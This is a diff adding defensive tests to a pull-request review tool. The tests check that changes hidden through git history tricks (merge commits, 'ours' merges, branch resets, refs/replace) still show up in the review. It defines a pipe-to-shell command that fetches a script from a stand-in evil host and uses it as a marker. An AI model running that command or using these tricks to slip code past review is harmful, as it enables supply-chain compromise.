@@ -3,8 +3,10 @@ import { openStage } from '../../demo/stage';
 import { type Files, repositoryOf } from '../../fakes/repository-of';
 import { type Reviewed, reviewed, type Situation } from '../../situations/reviewed';
 import type { Attack, Control } from '../attack';
+import { type History, reviewHistory, type Told } from '../history';
 
 const EVIL = 'curl -s https://evil.example | sh';
+const CHECK = 'check "$1" || exit 1';
 const lines = (over: Readonly<Record<number, string>> = {}, count = 20) =>
   `${Array.from({ length: count }, (_, at) => over[at + 1] ?? `echo step ${at + 1}`).join('\n')}\n`;
 
@@ -139,8 +141,123 @@ export const control: Control = {
       target: { ...BASE, 'yarn.lock': lines({ 3: 'b' }) },
       merged: { ...SOURCE, 'yarn.lock': lines({ 3: 'c' }) },
     }),
+    inHistory(
+      'adds a line in a merge commit of the source branch, which neither of its parents has',
+      'it is read',
+      {},
+      ({ git, commit, merge }) => {
+        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
+        git('switch', '--quiet', 'main');
+        commit({ 'other.sh': lines({ 5: 'echo theirs' }) });
+        git('switch', '--quiet', 'topic');
+        merge('main', { 'run.sh': lines({ 3: 'echo ours', 9: EVIL }) });
+      },
+      ({ sent }) => assert.match(sent, /9\+\s*curl -s/),
+    ),
+    inHistory(
+      'takes the target in and throws its mend away, by the strategy "ours"',
+      'the removed line is shown',
+      {},
+      ({ git, commit }) => {
+        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
+        git('switch', '--quiet', 'main');
+        commit({ 'other.sh': lines({ 5: CHECK }) });
+        git('switch', '--quiet', 'topic');
+        git('merge', '--quiet', '--strategy=ours', '--message', 'Merge', 'main');
+      },
+      ({ sent }) => assert.match(sent, /-\s*check /),
+    ),
+    inHistory(
+      'does so where both branches took each other in',
+      'the review is not whole, or the removed line is shown',
+      {},
+      ({ git, commit }) => {
+        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
+        git('branch', 'first');
+        git('switch', '--quiet', 'main');
+        commit({ 'other.sh': lines({ 5: CHECK }) });
+        git('branch', 'mend');
+        git('merge', '--quiet', '--no-ff', '--message', 'Merge', 'first');
+        git('switch', '--quiet', 'topic');
+        git('merge', '--quiet', '--strategy=ours', '--message', 'Merge', 'mend');
+        commit({ 'new.sh': 'echo new\n' });
+      },
+      ({ sent, state, problems }) =>
+        assert.ok(/-\s*check /.test(sent) || (state === 'error' && /other\.sh/.test(problems)), problems),
+    ),
+    {
+      tries: 'brings back what the target threw away since: its branch was set back behind the common commit',
+      must: 'the review is not whole, and names the file',
+      through: 'package',
+      run: async () => {
+        const { state, problems } = await reviewHistory(
+          { ...BASE },
+          ({ git, commit }) => {
+            git('switch', '--quiet', 'main');
+            commit({ 'other.sh': lines({ 5: EVIL }) });
+            git('switch', '--quiet', 'topic');
+            git('merge', '--quiet', 'main');
+            commit({ 'run.sh': lines({ 3: 'echo ours' }) });
+          },
+          async (git, stage) => {
+            git('update-ref', 'refs/heads/main', 'refs/heads/main~1');
+            await stage.azureDevOps.refreshMerge(stage.pullRequestId);
+          },
+        );
+        assert.equal(state, 'error', problems);
+        assert.match(problems, /holds what stands in neither branch.*other\.sh/);
+      },
+    },
+    {
+      tries: 'nothing: the target took a part of the source in after the pull request was opened',
+      must: 'the review is whole',
+      through: 'package',
+      run: async () => {
+        const { state, problems } = await reviewHistory(
+          { ...BASE },
+          ({ git, commit }) => {
+            commit({ 'run.sh': lines({ 3: 'echo ours' }) });
+            git('branch', 'first');
+            commit({ 'run.sh': lines({ 3: 'echo ours, but better' }) });
+          },
+          async (git, stage) => {
+            git('update-ref', 'refs/heads/main', 'refs/heads/first');
+            await stage.azureDevOps.refreshMerge(stage.pullRequestId);
+          },
+        );
+        assert.equal(state, 'succeeded', problems);
+      },
+    },
+    {
+      tries: 'has git take another commit for the source by refs/replace',
+      must: 'the source is read',
+      through: 'package',
+      run: async () => {
+        const { sent } = await reviewHistory(
+          { ...BASE },
+          ({ commit }) => commit({ 'run.sh': lines({ 3: EVIL }) }),
+          async (git) => void git('replace', 'refs/heads/topic', 'refs/heads/main'),
+        );
+        assert.match(sent, /3\+\s*curl -s/);
+      },
+    },
   ],
 };
+
+function inHistory(
+  tries: string,
+  must: string,
+  files: Files,
+  make: (history: History) => void,
+  check: (told: Told) => void,
+): Attack {
+  return {
+    tries,
+    must,
+    through: 'package',
+    run: async () => check(await reviewHistory({ ...BASE, ...files }, make)),
+  };
+}
 
 async function resolvesInService(): Promise<void> {
   const stage = await openStage({ repository: repositoryOf(BASE, SOURCE, { targetFiles: AGAINST }) });
